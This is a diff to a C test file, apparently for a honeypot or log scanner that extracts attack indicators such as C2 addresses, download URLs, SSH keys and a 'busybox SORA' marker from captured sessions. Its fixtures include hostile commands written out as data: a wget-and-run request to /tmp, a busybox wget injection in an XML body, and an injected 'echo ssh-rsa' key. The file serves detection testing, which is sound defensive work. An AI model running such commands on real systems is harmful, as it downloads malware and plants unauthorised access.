@@ -47,6 +47,10 @@ scan(struct sv line, struct found *found)
 #define KEY "AAAAC3NzaC1lZDI1NTE5AAAAIAABAgMEBQYHCAkKCwwNDg8QERITFBUWFxgZGhscHR4f"
 #define KEY_NAME "ssh_key SHA256:ZkAslGjFiUHdGf/WUL8rQvkib4PTvQatUV0OUQSncCA"
 
+/* a blob with '+' in it, which must not be taken for a blank */
+#define PLUS_KEY "AAAAB3NzaC1yc2EAAAADAQABAAAAIAEC++++++++++++++++++++++++++++++++++++++++"
+#define PLUS_NAME "ssh_key SHA256:2k66OERseAs2uIB0iLcBWSm+dl5AmKTuFUopHP0Fy2s"
+
 static void
 test_lines(void **state)
 {
@@ -175,6 +179,7 @@ test_session(void **state)
 		{ ITEM_HEADER, "referer", "http://198.51.100.7/not/fetched", 0 },
 		{ ITEM_REQUEST, "GET /shell?cd+/tmp;wget+http:/%5C/198.51.100.6/..j/.j;sh+.j", NULL,
 		    0 },
+		{ ITEM_PAYLOAD, "/bin/busybox SORA; echo ssh-rsa " PLUS_KEY, NULL, 0 },
 		{ ITEM_REQUEST, "POST /x",
 		    "<a xmlns=\"http://schemas.example.net/\">$(/bin/busybox wget -g 198.51.100.5 "
 		    "-l /tmp/k "
@@ -195,7 +200,7 @@ test_session(void **state)
 	    " | c2 198.51.100.9:6583"
 	    " | url 198.51.100.9/x.sh"
 	    " | url 198.51.100.6/..j/.j"
-	    " | url 198.51.100.5/m");
+	    " | marker busybox SORA | " PLUS_NAME " | url 198.51.100.5/m");
 	arena_free(scratch);
 	session_table_free(&table);
 }
